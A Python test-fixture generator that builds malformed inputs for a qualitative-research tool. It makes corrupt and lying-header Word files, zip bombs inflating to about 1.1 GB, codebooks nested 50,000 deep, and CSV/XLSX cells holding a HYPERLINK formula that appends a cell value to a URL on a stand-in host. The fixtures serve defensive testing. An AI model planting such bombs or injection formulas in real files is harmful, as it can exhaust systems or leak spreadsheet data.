"""Bad inputs: files that must never hurt a project, each refused with a clear error or read
whole, the rest of its batch stored.

    python tests/data/bad/make_bad.py [FOLDER]        # the large ones (default: a temp folder)
    python tests/data/bad/make_bad.py --small          # rewrite the small ones committed here

The small files are committed beside this script; the large ones (a text of more than a
million characters, a Word file whose XML inflates to 1.1 GB, a codebook of 50,000 nested
codes) are made on demand by the tests and by bench/bad_inputs.py. Every file is named after
a participant of the tests' sheet (PAT01), so that reading it is the only thing that can
fail. Everything here is fictional.
"""

from __future__ import annotations

import io
import struct
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

# a minimal Word package: what python-docx needs to open a document
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOC_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document xmlns:w="{W}"><w:body>')
DOC_TAIL = "</w:body></w:document>"
SENTENCES = (
    "Alors au début je buvais surtout le soir, après le travail, pour décompresser.",
    "Le médecin m'a proposé du baclofène, et puis on a parlé de réduire plutôt que d'arrêter.",
    "Au CSAPA, la psychologue m'a aidée à comprendre ce qui se passait avec ma consommation.",
    "Ce qui a changé, c'est de pouvoir en parler sans avoir honte, sans être jugée.",
    "On se voit tous les quinze jours, et entre deux rendez-vous je note ce que je bois.",
)


def paragraph(label: str, text: str) -> str:
    return (f"<w:p><w:r><w:rPr><w:b/></w:rPr><w:t>{label} :</w:t></w:r>"
            f'<w:r><w:t xml:space="preserve"> {text}</w:t></w:r></w:p>')


def package(document_xml: bytes, *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        z.writestr("word/document.xml", document_xml)
    return out.getvalue()


def good_document_xml() -> bytes:
    body = "".join(paragraph("E" if i % 2 == 0 else "P", SENTENCES[i % len(SENTENCES)])
                   for i in range(6))
    return (DOC_HEAD + body + DOC_TAIL).encode()


# -- small files (committed) -----------------------------------------------------------------
def corrupt_docx() -> bytes:
    """A Word file whose document.xml stops in the middle of an element."""
    xml = good_document_xml()
    return package(xml[: len(xml) * 2 // 3])


def lying_zip_docx() -> bytes:
    """A Word file whose zip directory says document.xml holds 1,000 bytes; it holds more
    (its size and checksum do not match what is read)."""
    data = bytearray(package(good_document_xml() * 1))
    name = b"word/document.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := data.find(signature, at)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                data[at + size_at:at + size_at + 4] = struct.pack("<I", 1000)
            at += 4
    return bytes(data)


def mixed_encodings_txt() -> bytes:
    """A transcript pasted together from a UTF-8 file and a Windows-1252 one."""
    lines = [("E : Vous pouvez me raconter le début ?", "utf-8"),
             ("P : Au début je buvais le soir, après le travail.", "utf-8"),
             ("E : Et le médecin, qu'est-ce qu'il a proposé ?", "cp1252"),
             ("P : Il m'a parlé de réduire, pas forcément d'arrêter.", "cp1252"),
             ("E : Ça a changé quelque chose ?", "utf-8")]
    return b"\r\n".join(text.encode(encoding) for text, encoding in lines) + b"\r\n"


def labels_only_txt() -> bytes:
    """A transcript with its speaker labels and nothing said."""
    return b"E :\nP :\nE : \n[00:01:02] P :\n"


def formulas_csv() -> bytes:
    return ("id,prenom,nom,profession,fonction,sexe,tranche_age,lieu_exercice,site,reseau\n"
            'PAT01,Zoéline,Brunchard,patiente,,F,36-45,CDS,"=HYPERLINK(""http://exemple.invalid'
            '/?x=""&A2,""Pantin"")",Proses\n'
            "MG01,Octave,Vermandois,MG,,H,45-65,CP,Pantin,+Proses\n").encode()


def _sheet_xlsx(rows: list[list[object]], merged: str | None = None) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merged:
        sheet.merge_cells(merged)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HEADER = ["id", "prenom", "nom", "profession", "fonction", "sexe", "tranche_age",
          "lieu_exercice", "site", "reseau"]


def formulas_xlsx() -> bytes:
    return _sheet_xlsx([HEADER, ["PAT01", "Zoéline", "Brunchard", "patiente", None, "F",
                                 "36-45", "CDS",
                                 '=HYPERLINK("http://exemple.invalid/?x="&B2,"Pantin")',
                                 "Proses"]])


def merged_header_xlsx() -> bytes:
    """A title row merged over the columns above the header, as a sheet made for print."""
    return _sheet_xlsx([["Participants de l'étude"] + [None] * 9, HEADER,
                        ["PAT01", "Zoéline", "Brunchard", "patiente", None, "F", "36-45", "CDS",
                         "Pantin", "Proses"]], merged="A1:J1")


SMALL = {
    "PAT01_document_corrompu.docx": corrupt_docx,
    "PAT01_zip_menteur.docx": lying_zip_docx,
    "PAT01_encodages_melanges.txt": mixed_encodings_txt,
    "PAT01_etiquettes_seules.txt": labels_only_txt,
    "participants_formules.csv": formulas_csv,
    "participants_formules.xlsx": formulas_xlsx,
    "participants_entete_fusionnee.xlsx": merged_header_xlsx,
}


# -- large files (made on demand) ------------------------------------------------------------
def long_text(chars: int = 1_050_000, *, cheap: bool = False) -> bytes:
    """A transcript of more than ``chars`` characters (spaCy refuses a text over a million).
    ``cheap``: one long word repeated, few tokens for the model to read (for the tests)."""
    lines, size, i = [], 0, 0
    while size < chars:
        text = "anticonstitutionnellement " * 12 if cheap else " ".join(
            SENTENCES[(i + k) % len(SENTENCES)] for k in range(3))
        lines.append(f"{'E' if i % 2 == 0 else 'P'} : {text.strip()}")
        size += len(lines[-1]) + 1
        i += 1
    return ("\n".join(lines) + "\n").encode()


def bomb_docx(inflated: int = 1_100_000_000, *, declared: int | None = None) -> bytes:
    """A Word file of about 1.7 MB whose document.xml inflates to ``inflated`` bytes: one
    long paragraph repeated. Its zip directory declares that size, or ``declared`` (a lie)."""
    data, crc, size = _deflated(DOC_HEAD.encode(), paragraph("P", "a" * 3500).encode(),
                                DOC_TAIL.encode(), inflated)
    if declared is not None:
        size = declared
    return _raw_zip([("[Content_Types].xml", CONTENT_TYPES.encode()),
                     ("_rels/.rels", RELS.encode())],
                    ("word/document.xml", data, crc, size))


def _deflated(head: bytes, unit: bytes, tail: bytes, inflated: int) -> tuple[bytes, int, int]:
    """``head``, ``unit`` repeated, ``tail``: ``inflated`` bytes in all, deflated a block at
    a time (never held whole); the raw deflate data, its CRC-32 and its size."""
    count = (inflated - len(head) - len(tail)) // len(unit)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc, chunks = zlib.crc32(head), [compressor.compress(head)]
    block = unit * 8192
    left = count
    while left:
        n = min(left, 8192)
        piece = block if n == 8192 else unit * n
        crc = zlib.crc32(piece, crc)
        chunks.append(compressor.compress(piece))
        left -= n
    crc = zlib.crc32(tail, crc)
    chunks += [compressor.compress(tail), compressor.flush()]
    return b"".join(chunks), crc, len(head) + count * len(unit) + len(tail)


QDE_HEAD = ('<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" '
            'name="gros" origin="make_bad">')
SOURCE_GUID = "0badf11e-1111-2222-3333-444455556666"


def qdpx_big_source(inflated: int = 500_000_000) -> bytes:
    """A REFI-QDA project of a few MB whose one text source inflates to ``inflated`` bytes."""
    qde = (QDE_HEAD + f'<Sources><TextSource guid="{SOURCE_GUID}" name="PAT01" '
           f'plainTextPath="internal://{SOURCE_GUID}.txt"/></Sources></Project>').encode()
    unit = ("P : " + " ".join(SENTENCES) + "\n").encode()
    data, crc, size = _deflated(b"E : Bonjour.\n", unit, b"E : Merci.\n", inflated)
    return _raw_zip([("project.qde", qde)], (f"sources/{SOURCE_GUID}.txt", data, crc, size))


def qdpx_huge_qde(inflated: int = 470_000_000) -> bytes:
    """A REFI-QDA project whose project.qde inflates to ``inflated`` bytes (one long
    description)."""
    head = (QDE_HEAD + "<Description>").encode()
    data, crc, size = _deflated(head, b"Une description. " * 64, b"</Description></Project>",
                                inflated)
    return _raw_zip([], ("project.qde", data, crc, size))


def _raw_zip(plain: list[tuple[str, bytes]], deflated: tuple[str, bytes, int, int]) -> bytes:
    """A zip with stored members and one member already deflated (too large to deflate
    through zipfile in memory)."""
    out = io.BytesIO()
    directory = []
    entries = [(n, d, zlib.crc32(d), len(d), len(d), 0) for n, d in plain]
    name, data, crc, size = deflated
    entries.append((name, data, crc, len(data), size, 8))
    for name, data, crc, packed, size, method in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, packed,
                              size, len(raw), 0) + raw + data)
        directory.append(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0,
                                     crc, packed, size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    for entry in directory:
        out.write(entry)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(directory), len(directory),
                          out.tell() - start, start, 0))
    return out.getvalue()


def nested_codebook_qdc(depth: int = 50_000) -> bytes:
    """A REFI-QDA codebook of ``depth`` codes, each inside the one before."""
    guid = "{:08x}-1111-2222-3333-444455556666"
    opening = "".join(f'<Code guid="{guid.format(i)}" name="Code {i}" isCodable="true">'
                      for i in range(depth))
    return ('<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0" '
            f'origin="make_bad"><Codes>{opening}{"</Code>" * depth}</Codes></CodeBook>'
            ).encode()


def nested_codebook_yaml(depth: int = 50_000) -> bytes:
    """The workbench's own codebook format, each of ``depth`` codes the child of the one
    before."""
    lines = ["version: 1", "name: imbrique", "codes:"]
    for i in range(depth):
        lines.append(f"  - id: c{i}\n    label: Code {i}"
                     + (f"\n    parent: c{i - 1}" if i else ""))
    return ("\n".join(lines) + "\n").encode()


LARGE = {
    "PAT01_tres_long.txt": long_text,
    "PAT01_bombe.docx": bomb_docx,
    "PAT01_bombe_menteuse.docx": lambda: bomb_docx(declared=40_000),
    "codebook_imbrique.qdc": nested_codebook_qdc,
    "codebook_imbrique.yaml": nested_codebook_yaml,
    "PAT01_source_enorme.qdpx": qdpx_big_source,
    "PAT01_projet_enorme.qdpx": qdpx_huge_qde,
}


def write(folder: Path, files: dict) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, make in files.items():
        (folder / name).write_bytes(make())
        out.append(folder / name)
    return out


def main() -> None:
    if "--small" in sys.argv[1:]:
        for path in write(HERE, SMALL):
            print(f"{path.stat().st_size:>12,}  {path.name}")
        return
    args = [a for a in sys.argv[1:] if not a.startswith("-")]
    folder = Path(args[0]) if args else Path(tempfile.mkdtemp(prefix="tupsalco-bad-"))
    for path in write(folder, LARGE):
        print(f"{path.stat().st_size:>12,}  {path}")


if __name__ == "__main__":
    main()
